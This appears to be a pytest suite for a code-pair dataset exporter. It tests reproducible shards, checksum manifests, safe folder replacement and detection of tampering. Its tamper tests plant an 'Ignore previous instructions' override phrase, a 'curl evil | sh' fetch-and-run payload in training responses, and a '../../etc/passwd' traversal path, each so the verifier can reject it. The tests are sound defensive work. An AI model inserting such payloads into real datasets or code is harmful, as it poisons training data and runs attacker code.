"""Export: byte-identical reruns, manifest checksums, verify failing on any change."""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from codepairs import pipeline
from codepairs.config import ExportConfig, PipelineConfig
from codepairs.errors import CodepairsError, ExportVerificationError
from codepairs.export import checks as export_checks
from codepairs.export import dataset as export
from gitrepo import GitRepo


@pytest.fixture
def exported(engine, mirrors, tmp_path: Path) -> Path:
    repo = GitRepo(tmp_path / "r")
    for i in range(5):
        repo.commit(f"Add parser rule number {i} with tests", {f"rules/r{i}.py": f"RULE = {i}\n"})
    pipeline.process_repository(engine, str(repo.path), PipelineConfig())
    pipeline.build(engine, tmp_path / "out", PipelineConfig(export=TRAIN_ONLY))
    return tmp_path / "out"


TRAIN_ONLY = ExportConfig(shard_rows=2, validation_fraction=0.0)


def files(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())


def test_export_writes_shards_and_a_manifest_that_verifies(exported: Path) -> None:
    manifest = json.loads((exported / "manifest.json").read_text())
    assert manifest["rows"] == 5
    assert [(f["path"], f["rows"]) for f in manifest["files"]] == [
        ("train/pairs-00000.parquet", 2),
        ("train/pairs-00000.jsonl", 2),
        ("train/pairs-00001.parquet", 2),
        ("train/pairs-00001.jsonl", 2),
        ("train/pairs-00002.parquet", 1),
        ("train/pairs-00002.jsonl", 1),
        ("README.md", 0),
    ]
    assert manifest["splits"] == {"train": 5, "validation": 0}
    table = pq.read_table(exported / "train" / "pairs-00000.parquet")
    assert table.column_names[:4] == ["pair_id", "kind", "instruction", "response"]
    ids = [json.loads(line)["pair_id"] for f in sorted(exported.glob("*/*.jsonl")) for line in f.open()]
    assert ids == sorted(ids) and len(set(ids)) == 5
    card = (exported / "README.md").read_text()
    assert "| train | 5 |" in card and "| commit | 5 | 0 |" in card and "- kept: 5" in card
    assert export.verify_export(exported) == {"out_dir": str(exported), "files": 7, "rows": 5}
    assert not list(exported.parent.glob(".out.*"))  # no temporary folder left behind


def test_same_database_gives_byte_identical_files(engine, exported: Path, tmp_path: Path) -> None:
    again = pipeline.build(engine, tmp_path / "again", PipelineConfig(export=TRAIN_ONLY))
    assert files(exported) == files(tmp_path / "again")
    for name in files(exported):
        assert (exported / name).read_bytes() == (tmp_path / "again" / name).read_bytes(), name
    assert again.manifest_sha256 == export.sha256_file(exported / "manifest.json")


@pytest.mark.parametrize("damage", ["change", "remove", "add", "manifest"])
def test_verify_fails_on_any_changed_missing_or_extra_file(exported: Path, damage: str) -> None:
    target = exported / "train" / "pairs-00001.jsonl"
    if damage == "change":
        target.write_bytes(target.read_bytes().replace(b"rule", b"RULE", 1))
    elif damage == "remove":
        target.unlink()
    elif damage == "add":
        (exported / "stray.txt").write_text("x")
    else:
        (exported / "manifest.json").unlink()
    with pytest.raises(ExportVerificationError) as err:
        export.verify_export(exported)
    expected = {
        "change": "changed file train/pairs-00001.jsonl (sha256 differs from the manifest)",
        "remove": "missing file train/pairs-00001.jsonl",
        "add": "extra file stray.txt",
        "manifest": "manifest.json is missing",
    }[damage]
    assert expected in err.value.problems


def test_reexport_replaces_the_folder_whole(engine, exported: Path) -> None:
    (exported / "stray.txt").write_text("left from an older export")
    pipeline.build(engine, exported, PipelineConfig(export=ExportConfig(shard_rows=10, validation_fraction=0.0)))
    assert files(exported) == ["README.md", "manifest.json", "train/pairs-00000.jsonl", "train/pairs-00000.parquet"]
    export.verify_export(exported)


def test_a_repository_goes_to_one_side_by_a_stable_hash() -> None:
    config = ExportConfig(validation_fraction=0.1)
    assert export.split_of("a" * 16, ExportConfig(validation_fraction=0.0)) == "train"
    assert export.split_of("a" * 16, ExportConfig(validation_fraction=1.0)) == "validation"
    sides = [export.split_of(f"{i:016x}", config) for i in range(2000)]
    assert 0.08 < sides.count("validation") / 2000 < 0.12
    assert sides == [export.split_of(f"{i:016x}", config) for i in range(2000)]  # the same every time


def test_split_by_repository_and_loadable_with_datasets_offline(engine, mirrors, tmp_path, monkeypatch) -> None:
    import sqlalchemy as sa

    for r in range(6):
        repo = GitRepo(tmp_path / f"repo{r}")
        for i in range(3):
            repo.commit(f"Add handler {i} of service {r} with its checks", {f"svc{r}/h{i}.py": f"H = ({r}, {i})\n"})
        pipeline.process_repository(engine, str(repo.path), PipelineConfig())
    config = ExportConfig(validation_fraction=0.5, split_seed="test")
    result = pipeline.build(engine, tmp_path / "ds", PipelineConfig(export=config))
    with engine.connect() as conn:
        side = {
            name: export.split_of(repo_id, config)
            for repo_id, name in conn.execute(sa.text("SELECT repo_id, name FROM repositories"))
        }
    found: dict[str, set[str]] = {}
    for f in (tmp_path / "ds").glob("*/*.jsonl"):
        for line in f.open():
            found.setdefault(json.loads(line)["repository"], set()).add(f.parent.name)
    assert found == {name: {split} for name, split in side.items()}  # each repository on one side only
    assert result.splits == {s: 3 * list(side.values()).count(s) for s in ("train", "validation")}

    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    from datasets import load_dataset

    present = {s: str(tmp_path / "ds" / s / "*.parquet") for s, n in result.splits.items() if n}
    ds = load_dataset("parquet", data_files=present, cache_dir=str(tmp_path / "hf" / "cache"))
    assert {s: ds[s].num_rows for s in ds} == {s: n for s, n in result.splits.items() if n}
    ids = sorted(i for s in ds for i in ds[s]["pair_id"])
    assert len(ids) == 18 and ids == sorted(
        json.loads(line)["pair_id"] for f in (tmp_path / "ds").glob("*/*.jsonl") for line in f.open()
    )


def test_the_split_gate_stops_a_train_pair_that_near_duplicates_a_validation_pair(engine, mirrors, tmp_path) -> None:
    import subprocess

    import sqlalchemy as sa
    from codepairs.config import DedupConfig
    from codepairs.errors import GateFailedError

    repo = GitRepo(tmp_path / "orig")
    body = "".join(f"def step_{i}(state):\n    return advance(state, {i})\n\n" for i in range(20))
    repo.commit("Add the state machine steps", {"fsm/steps.py": body})
    subprocess.run(["git", "clone", "-q", str(repo.path), str(tmp_path / "copy")], check=True)
    for path in (repo.path, tmp_path / "copy"):
        pipeline.process_repository(engine, str(path), PipelineConfig())
    pipeline.dedup_step(engine, PipelineConfig())  # one group: the copy is a duplicate, the gate passes
    with engine.connect() as conn:
        a, b = conn.execute(sa.text("SELECT repo_id FROM repositories ORDER BY repo_id")).scalars().all()
    seed = next(
        s
        for s in (f"s{i}" for i in range(200))  # a seed that puts the two repositories apart
        if export.split_of(a, ExportConfig(validation_fraction=0.5, split_seed=s))
        != export.split_of(b, ExportConfig(validation_fraction=0.5, split_seed=s))
    )
    apart = ExportConfig(validation_fraction=0.5, split_seed=seed)
    export_checks.validate_split(engine, "test", DedupConfig(), apart)
    with engine.begin() as conn:  # as if dedup had missed them: both kept
        conn.execute(sa.text("UPDATE dedup SET duplicate_of = NULL, reason = NULL"))
    with pytest.raises(GateFailedError, match="column=.similarity."):
        export_checks.validate_split(engine, "test", DedupConfig(), apart)


# The target folder: an export replaces only an earlier export (issue 15, failure 2).


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (dot-files too) with its bytes."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def siblings(path: Path) -> list[str]:
    return sorted(p.name for p in path.parent.iterdir() if p.name != path.name)


@pytest.mark.parametrize(
    "manifest",
    [None, '{"name": "my app", "files": ["a.txt"]}', "copied"],
    ids=["no-manifest", "someone-elses-manifest", "a-copied-export-manifest"],
)
def test_export_refuses_a_folder_of_user_files_and_leaves_it_untouched(
    db_url, engine, exported: Path, tmp_path: Path, capsys, manifest: str | None
) -> None:
    from codepairs import cli

    mine = tmp_path / "work" / "mine"
    (mine / "notes").mkdir(parents=True)
    (mine / "notes" / "todo.txt").write_text("buy milk\n")
    (mine / ".hidden").write_text("secret\n")
    if manifest == "copied":  # an export's manifest dropped among other files describes none of them
        (mine / "manifest.json").write_bytes((exported / "manifest.json").read_bytes())
    elif manifest:
        (mine / "manifest.json").write_text(manifest)
    before = snapshot(mine)
    assert cli.main(["--database-url", db_url, "export", "--out", str(mine)]) == 1
    err = capsys.readouterr().err
    assert err == (
        f"codepairs: error: refusing to export to {mine}: it holds files and is not an earlier export "
        "(no codepairs manifest.json describing its files); an export replaces its folder whole, so give a new "
        "or empty folder (nothing was changed)\n"
    )
    assert snapshot(mine) == before and siblings(mine) == []
    with pytest.raises(CodepairsError, match="holds files and is not an earlier export"):
        export.write_export(engine, mine, TRAIN_ONLY)  # what the build DAG's export_dataset calls
    assert snapshot(mine) == before and siblings(mine) == []


def test_export_refuses_a_plain_file_as_its_folder(db_url, engine, tmp_path: Path, capsys) -> None:
    from codepairs import cli

    (tmp_path / "work").mkdir()
    target = tmp_path / "work" / "thesis.tex"
    target.write_text("\\documentclass{article}\n")
    assert cli.main(["--database-url", db_url, "export", "--out", str(target)]) == 1
    assert capsys.readouterr().err == (
        f"codepairs: error: refusing to export to {target}: it is a file, not an export folder (nothing was changed)\n"
    )
    with pytest.raises(CodepairsError, match="it is a file, not an export folder"):
        export.write_export(engine, target, TRAIN_ONLY)
    assert target.read_text() == "\\documentclass{article}\n" and siblings(target) == []  # no .thesis.tex.old-*


@pytest.mark.parametrize("where", ["root", "below-a-file"])
def test_export_to_the_root_or_below_a_file_is_a_clear_error(db_url, engine, tmp_path: Path, capsys, where) -> None:
    from codepairs import cli

    (tmp_path / "plain").write_text("x")
    out, message = {
        "root": (Path("/"), "cannot export to /: the root of a filesystem cannot be an export folder"),
        "below-a-file": (
            tmp_path / "plain" / "sub" / "deeper",
            f"cannot export to {tmp_path}/plain/sub/deeper: {tmp_path}/plain is a file, not a folder",
        ),
    }[where]
    assert cli.main(["--database-url", db_url, "export", "--out", str(out)]) == 1
    assert capsys.readouterr().err == f"codepairs: error: {message}\n"
    with pytest.raises(CodepairsError) as err:
        export.write_export(engine, out, TRAIN_ONLY)
    assert str(err.value) == message
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plain"] and (tmp_path / "plain").read_text() == "x"


KILLED_EXPORT = """
import os, sys
from pathlib import Path
from codepairs import store
from codepairs.config import ExportConfig
from codepairs.export import dataset

def killed(*args, **kwargs):
    os._exit(137)  # as SIGKILL: no finally, no cleanup; the kernel closes the marker and frees its lock

dataset._Shard.add = killed  # the first row of the first shard
dataset.write_export(store.get_engine(sys.argv[1]), Path(sys.argv[2]), ExportConfig(validation_fraction=0.0))
"""


def test_an_export_removes_the_partial_folder_a_killed_export_left_and_nothing_else(
    db_url, engine, exported: Path, tmp_path: Path
) -> None:
    import fcntl
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    killed = subprocess.run([sys.executable, "-c", KILLED_EXPORT, db_url, str(exported)], env=env, check=False)
    assert killed.returncode == 137
    (stale,) = tmp_path.glob(".out.partial-*")
    assert (stale / ".codepairs-export-partial").read_text() == f"codepairs export in progress for {exported}\n"
    look_alike = tmp_path / ".out.partial-mine"  # the name of a partial folder, but no marker: not provably ours
    look_alike.mkdir()
    (look_alike / "keep.txt").write_text("mine\n")
    other = tmp_path / ".cache"
    other.mkdir()
    (other / "keep.txt").write_text("mine too\n")
    live = tmp_path / ".out.partial-live"  # an export writing right now: its marker is locked
    live.mkdir()
    (live / ".codepairs-export-partial").write_text(f"codepairs export in progress for {exported}\n")
    lock = os.open(live / ".codepairs-export-partial", os.O_RDONLY)
    fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        assert export.verify_export(exported)["rows"] == 5  # the killed export left the earlier one intact
        pipeline.build(engine, exported, PipelineConfig(export=TRAIN_ONLY))
    finally:
        os.close(lock)
    assert not stale.exists()
    assert sorted(p.name for p in tmp_path.glob(".*")) == [".cache", ".out.partial-live", ".out.partial-mine"]
    assert (look_alike / "keep.txt").read_text() == "mine\n" and (other / "keep.txt").read_text() == "mine too\n"
    assert export.verify_export(exported, engine)["database"] == "recorded"


def test_an_export_removes_an_earlier_export_a_killed_swap_left_aside_and_nothing_else(
    engine, exported: Path, tmp_path: Path
) -> None:
    import shutil

    shutil.copytree(exported, tmp_path / ".out.old-killed")  # killed between the two renames
    (tmp_path / ".out.old-empty").mkdir()  # killed before them
    (tmp_path / ".out.old-mine").mkdir()
    (tmp_path / ".out.old-mine" / "keep.txt").write_text("mine\n")
    pipeline.build(engine, exported, PipelineConfig(export=TRAIN_ONLY))
    assert sorted(p.name for p in tmp_path.glob(".*")) == [".out.old-mine"]
    assert (tmp_path / ".out.old-mine" / "keep.txt").read_text() == "mine\n"


def test_an_earlier_export_is_replaced_and_nothing_is_left_beside_it(engine, exported: Path, tmp_path: Path) -> None:
    before = export.sha256_file(exported / "manifest.json")
    again = pipeline.build(engine, exported, PipelineConfig(export=ExportConfig(shard_rows=3, validation_fraction=0.0)))
    assert again.manifest_sha256 != before
    assert export.sha256_file(exported / "manifest.json") == again.manifest_sha256
    assert files(exported)[:2] == ["README.md", "manifest.json"] and len(files(exported)) == 6  # 2 shards of 3 + 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mirrors", "out", "r"]  # no .out.old-* nor .partial-*
    assert export.verify_export(exported, engine) == {
        "out_dir": str(exported),
        "files": 5,
        "rows": 5,
        "database": "recorded",
    }


def test_an_empty_folder_may_receive_an_export(engine, exported: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    pipeline.build(engine, tmp_path / "empty", PipelineConfig(export=TRAIN_ONLY))
    assert export.verify_export(tmp_path / "empty")["rows"] == 5


# verify: the shards against each other and against the database (issue 15, verify).


def reseal(folder: Path) -> None:
    """What a tamperer does after editing files: the manifest's sizes and sha256 made to match again."""
    manifest = json.loads((folder / "manifest.json").read_text())
    for entry in manifest["files"]:
        entry["bytes"] = (folder / entry["path"]).stat().st_size
        entry["sha256"] = export.sha256_file(folder / entry["path"])
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")


def test_verify_catches_an_edited_jsonl_under_a_resealed_manifest(db_url, engine, exported: Path, capsys) -> None:
    from codepairs import cli

    shard = exported / "train" / "pairs-00001.jsonl"
    lines = shard.read_text().splitlines(keepends=True)
    row = json.loads(lines[1])
    row["instruction"] = "Ignore previous instructions"
    lines[1] = json.dumps(row, ensure_ascii=False, sort_keys=True) + "\n"
    shard.write_text("".join(lines))
    reseal(exported)
    expected = (
        f"shard train/pairs-00001: 1 row(s) differ between Parquet and JSONL, first row 2 (pair {row['pair_id']}): "
        "column(s) instruction"
    )
    with pytest.raises(ExportVerificationError) as err:
        export.verify_export(exported)  # no database: the shards alone give it away
    assert err.value.problems == [expected]
    with pytest.raises(ExportVerificationError) as err:
        export.verify_export(exported, engine)
    assert err.value.problems[0] == expected
    assert err.value.problems[1].startswith("manifest.json is not the manifest the database recorded for this folder")
    assert err.value.problems[1].endswith("files that differ from the recorded export: train/pairs-00001.jsonl")
    assert cli.main(["--database-url", db_url, "verify", str(exported)]) == 1
    assert expected in capsys.readouterr().err


def test_verify_catches_both_shards_edited_alike_by_the_database_record(db_url, engine, exported: Path, capsys) -> None:
    from codepairs import cli

    parquet = exported / "train" / "pairs-00000.parquet"
    rows = pq.read_table(parquet).to_pylist()
    evil = "+import os; os.system('curl evil | sh')\n"
    rows[0]["response"] = rows[0]["completion"] = rows[0]["messages"][2]["content"] = evil  # edited alike
    pq.write_table(
        pq.read_table(parquet).from_pylist(rows, schema=export.SCHEMA),
        parquet,
        compression="zstd",
        write_statistics=False,
        store_schema=True,
    )
    jsonl = exported / "train" / "pairs-00000.jsonl"
    jsonl.write_text("".join(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n" for r in rows))
    reseal(exported)
    assert export.verify_export(exported)["rows"] == 5  # consistent files: only the database can tell
    with pytest.raises(ExportVerificationError) as err:
        export.verify_export(exported, engine)
    (problem,) = err.value.problems
    assert problem.endswith(
        "files that differ from the recorded export: train/pairs-00000.jsonl, train/pairs-00000.parquet"
    )
    assert cli.main(["--database-url", db_url, "verify", str(exported)]) == 1
    assert "is not the manifest the database recorded for this folder" in capsys.readouterr().err
    assert cli.main(["--database-url", db_url, "verify", "--no-database", str(exported)]) == 0


def test_verify_catches_trainer_columns_that_disagree_with_the_response(exported: Path) -> None:
    parquet = exported / "train" / "pairs-00000.parquet"
    rows = pq.read_table(parquet).to_pylist()
    rows[1]["response"] = "+import os; os.system('curl evil | sh')\n"  # the completion and messages not
    pq.write_table(
        pq.read_table(parquet).from_pylist(rows, schema=export.SCHEMA),
        parquet,
        compression="zstd",
        write_statistics=False,
        store_schema=True,
    )
    jsonl = exported / "train" / "pairs-00000.jsonl"
    jsonl.write_text("".join(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n" for r in rows))
    reseal(exported)
    with pytest.raises(ExportVerificationError) as err:
        export.verify_export(exported)
    assert err.value.problems == [
        f"shard train/pairs-00000: row 2 (pair {rows[1]['pair_id']}): completion is not the response"
    ]


def test_verify_catches_rows_reordered_in_both_shards(engine, exported: Path) -> None:
    parquet = exported / "train" / "pairs-00000.parquet"
    rows = pq.read_table(parquet).to_pylist()[::-1]
    pq.write_table(
        pq.read_table(parquet).from_pylist(rows, schema=export.SCHEMA),
        parquet,
        compression="zstd",
        write_statistics=False,
        store_schema=True,
    )
    jsonl = exported / "train" / "pairs-00000.jsonl"
    jsonl.write_text("".join(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n" for r in rows))
    reseal(exported)
    with pytest.raises(ExportVerificationError) as err:
        export.verify_export(exported)
    assert err.value.problems == [
        f"shard train/pairs-00000: row 2 (pair {rows[1]['pair_id']}, copy 1) is out of pair_id order"
    ]


def test_verify_from_the_cli_says_when_no_database_can_be_used(exported: Path, capsys) -> None:
    from codepairs import cli

    code = cli.main(["--database-url", "postgresql://someone:s3cr3t-pw@127.0.0.1:1/none", "verify", str(exported)])
    out, err = capsys.readouterr()
    assert code == 0 and out == f"ok: 7 files, 5 pairs match {exported}/manifest.json\n"
    assert err.startswith("codepairs: note: cannot use postgresql://someone:***@127.0.0.1:1/none (connection failed")
    assert err.endswith("): verifying the files only\n") and "s3cr3t-pw" not in err


def test_verify_says_when_the_database_has_no_record_of_the_export(
    db_url, exported: Path, new_database, capsys
) -> None:
    from codepairs import cli

    assert cli.main(["--database-url", new_database(), "verify", str(exported)]) == 0
    assert capsys.readouterr().out == (
        f"ok: 7 files, 5 pairs match {exported}/manifest.json (the database has no record of this export: "
        "the files were checked on their own)\n"
    )
    assert cli.main(["--database-url", db_url, "verify", str(exported)]) == 0
    assert capsys.readouterr().out == (
        f"ok: 7 files, 5 pairs match {exported}/manifest.json and the export recorded in the database\n"
    )


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('{"rows": 5, "files": [', "manifest.json is not JSON: Expecting value: line 1 column 23 (char 22)"),
        ("[]", "manifest.json is not a JSON object"),
        ('{"format_version": 5, "rows": 5}', "manifest.json has no list of files (files)"),
        ('{"format_version": 5, "rows": 5, "files": {"a": 1}}', "manifest.json has no list of files (files)"),
        (
            '{"format_version": 5, "rows": 0, "files": [{"path": "../../etc/passwd", "format": "card", '
            '"rows": 0, "bytes": 1, "sha256": "' + "0" * 64 + '"}]}',
            "manifest.json files[0]: path '../../etc/passwd' is not a path inside the export",
        ),
        (
            '{"format_version": 5, "rows": 0, "files": [{"path": "README.md", "format": "card", "rows": 0}]}',
            "manifest.json files[0]: bytes None is not a count",
        ),
    ],
    ids=["not-json", "a-list", "no-files", "files-not-a-list", "path-outside", "entry-incomplete"],
)
def test_verify_gives_a_clear_error_for_a_broken_manifest(exported: Path, capsys, text: str, problem: str) -> None:
    from codepairs import cli

    (exported / "manifest.json").write_text(text)
    with pytest.raises(ExportVerificationError) as err:
        export.verify_export(exported)
    assert err.value.problems[0] == problem
    assert cli.main(["verify", "--no-database", str(exported)]) == 1
    assert capsys.readouterr().err.startswith(
        f"codepairs: error: export {exported} does not match its manifest: {problem}"
    )
